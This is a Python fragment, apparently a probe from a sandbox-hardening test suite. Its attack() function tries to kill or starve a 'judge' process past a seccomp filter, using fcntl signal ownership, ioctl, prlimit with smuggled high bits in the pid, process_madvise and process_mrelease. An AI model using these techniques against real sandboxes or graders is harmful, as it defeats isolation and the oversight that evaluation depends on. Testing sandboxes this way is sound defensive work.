"""Tries: to kill without a call that signals: by owning a descriptor's signals, by limits and by timers of others.

Layer: seccomp (fcntl, ioctl and prlimit for some arguments only); namespaces.
Aims at: exercise 1.
"""


def attack():
    reading, writing = os.pipe()
    judge = PLACES["judge"]
    owner = (ctypes.c_int * 2)(1, judge)
    limit = (ctypes.c_uint64 * 2)(0, 0)
    return {
        "owner": attempt(lambda: c("fcntl", reading, 8, judge)),
        "owner, extended": attempt(lambda: c("fcntl", reading, 15, owner)),
        "signal": attempt(lambda: c("fcntl", reading, 10, 9)),
        "owner by ioctl": attempt(lambda: c("ioctl", reading, ctypes.c_ulong(0x8901), ctypes.byref(ctypes.c_int(judge)))),
        "limit of CPU": attempt(lambda: system_call(302, judge, 0, limit, None)),
        "limit of files": attempt(lambda: system_call(302, judge, 7, limit, None)),
        "high bits": attempt(lambda: system_call(302, ctypes.c_long((1 << 32) | judge), 0, limit, None)),
        "memory, by advice": attempt(lambda: system_call(440, 3, None, 0, 21, 0)),
        "mrelease": attempt(lambda: system_call(448, 3, 0)),
    }
